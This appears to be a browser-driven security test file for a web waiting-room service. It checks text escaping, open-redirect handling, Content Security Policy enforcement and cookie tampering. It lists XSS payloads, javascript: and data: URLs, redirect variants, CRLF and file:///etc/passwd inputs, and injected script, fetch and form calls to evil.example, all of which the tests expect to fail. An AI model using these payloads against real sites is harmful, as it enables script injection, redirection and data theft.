// What operators, addresses and cookies say is text: no script runs by it, and nobody is sent anywhere else.
import { all, assert, banner, base, becomes, done, occupant, open, part, room, shop, stage, visitor } from "./rooms.mjs";

const run = "window.pwned=1";
const texts = [
  `<script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `"><svg onload=${run}>`,
  `'});${run}//`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script><!--`,
  `{{ ${run} }} {% raw %} \\u003cscript\\u003e${run}`,
  `javascript:${run}`,
];

// What a page did that it must not: run something, ask somebody else, or be kept from it by its policy alone.
async function watched(options) {
  const context = await visitor(options);
  context.strangers = [];
  context.on("request", (request) => {
    if (!request.url().startsWith(base + "/") && !request.url().startsWith("data:")) context.strangers.push(request.url());
  });
  await context.addInitScript(() => {
    window.refused = [];
    addEventListener("securitypolicyviolation", (event) => window.refused.push(event.violatedDirective));
  });
  return context;
}

async function isClean(page, place) {
  assert.deepEqual(await page.evaluate(() => [typeof window.pwned, window.refused]), ["undefined", []], place);
}

async function clean(context) {
  assert.deepEqual(context.strangers, []);
  await done(context);
}

async function aMessageIsText() {
  await room("message");
  const holder = await occupant("message");
  const context = await watched();
  const [page, banners] = [await open(context, "/rooms/message"), await shop(context, "message")];
  for (const [index, message] of texts.entries()) {
    // As the page has it from the start, and as its script hears of it later.
    const title = texts[texts.length - 1 - index];
    for (const said of [message, message + " " + message]) {
      await room("message", { title, message: said });
      if (said === message) await page.reload();
      await page.locator('[data-tg="message"]', { hasText: said }).waitFor();
      assert.equal(await part(page, "message").textContent(), said);
    }
    assert.ok((await page.title()).endsWith(" – " + title), await page.title());
    await isClean(page, message);
    await isClean(banners, message);
  }
  await banner(banners).getByText("Ahead of you").waitFor();
  await clean(context);
  await done(holder);
}

const places = [
  "javascript:window.pwned=1", "JaVaScRiPt:window.pwned=1", "java\tscript:window.pwned=1", "\u0001javascript:window.pwned=1",
  "data:text/html,<script>window.pwned=1</script>", "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example",
  "/\t/evil.example", "https://evil.example/", "https:evil.example", "http:/\\evil.example", "https://demo@evil.example/",
  `"><script>window.pwned=1</script>`, `/"><img src=x onerror=window.pwned=1>`, `/' onmouseover='window.pwned=1`, "/%0d%0aSet-Cookie:a=b",
  `/?a=</script><script>window.pwned=1</script>`, "vbscript:x", "file:///etc/passwd", "//evil.example%2f@/", "/..//evil.example",
];

async function anAddressLeadsNowhereElse() {
  await room("place");
  const holder = await occupant("place");
  const [waiting, inside] = [await watched(), await watched()];
  await room("place-open", { capacity: 1000 });
  const [page, through] = [await open(waiting, "/rooms/place"), await inside.newPage()];
  for (const place of places) {
    const query = "?return_to=" + encodeURIComponent(place);
    await page.goto(base + "/rooms/place" + query);
    assert.equal(await stage(page), "waiting", place);
    const href = await page.locator('[data-tg="onward"]').evaluate((one) => one.getAttribute("href") && one.href);
    assert.ok(href === null || href.startsWith(base + "/"), `${place} leads to ${href}`);
    await isClean(page, place);
    // Where nobody waits, one is sent on at once: to this site, or nowhere.
    await through.goto(base + "/rooms/place-open" + query);
    assert.ok(through.url().startsWith(base + "/"), `${place} leads to ${through.url()}`);
    assert.equal(await through.evaluate(() => typeof window.pwned), "undefined", place);
  }
  for (const context of [waiting, inside]) await clean(context);
  await done(holder);
}

// If something got into the page after all, its policy would not let it run, ask, be framed or be sent elsewhere.
async function thePolicyHolds() {
  await room("policy");
  const context = await visitor();
  const page = await open(context, "/rooms/policy");
  const refused = await page.evaluate(async () => {
    const refused = [];
    addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
    const add = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields));
    add("script", { textContent: "window.pwned = 1" });
    add("script", { src: "https://evil.example/x.js" });
    add("div", { innerHTML: "<img src=x: onerror='window.pwned = 1'><p style='color:red'>" });
    add("style", { textContent: "body { color: red }" });
    add("iframe", { src: "/demo" });
    add("base", { href: "https://evil.example/" });
    await fetch("https://evil.example/").catch(() => null);
    const form = Object.assign(document.createElement("form"), { action: "https://evil.example/", method: "post" });
    document.body.append(form);
    HTMLFormElement.prototype.submit.call(form);
    // Of a form it is told when the browser comes to it.
    for (let turn = 0; turn < 200 && !refused.includes("form-action"); turn += 1) await new Promise((resolve) => setTimeout(resolve, 50));
    return [...new Set(refused)].sort();
  });
  assert.equal(await page.evaluate(() => typeof window.pwned), "undefined");
  assert.deepEqual(refused, [
    "base-uri", "connect-src", "form-action", "frame-src", "img-src", "script-src-attr", "script-src-elem", "style-src-attr", "style-src-elem",
  ]);
  // It cannot be put into a frame, where somebody could be made to press its buttons.
  await page.route("**/frame", (route) => route.fulfill({ contentType: "text/html", body: '<iframe src="/rooms/policy"></iframe>' }));
  await page.goto(base + "/frame");
  await page.waitForLoadState("networkidle");
  assert.equal(await page.frames()[1].locator("main").count(), 0);
  await context.close();
}

// What a browser has kept is read as if anybody had written it.
async function cookiesThatWereChangedAreNotBelieved() {
  await room("cookies");
  const holder = await occupant("cookies");
  const context = await watched();
  const page = await open(context, "/rooms/cookies?return_to=/demo");
  await becomes(page, "waiting");
  const cookies = await context.cookies();
  const names = cookies.map(({ name }) => name).sort();
  assert.deepEqual(names, ["tidegate_device", "tidegate_place_cookies", "tidegate_ticket_cookies"]);
  for (const cookie of cookies) assert.ok(cookie.httpOnly && cookie.sameSite === "Lax", cookie.name);
  assert.equal(await page.evaluate(() => document.cookie), "");
  for (const value of ["x", `"><script>${run}</script>`.replace(/[";]/g, ""), "v1." + "A".repeat(200)]) {
    await context.addCookies(cookies.map((cookie) => ({ ...cookie, value })));
    await page.goto(base + "/rooms/cookies");
    await isClean(page, value);
    assert.ok(["waiting", "error"].includes(await stage(page)), value);
  }
  await clean(context);
  await done(holder);
}

await all(4, aMessageIsText, anAddressLeadsNowhereElse, thePolicyHolds, cookiesThatWereChangedAreNotBelieved);
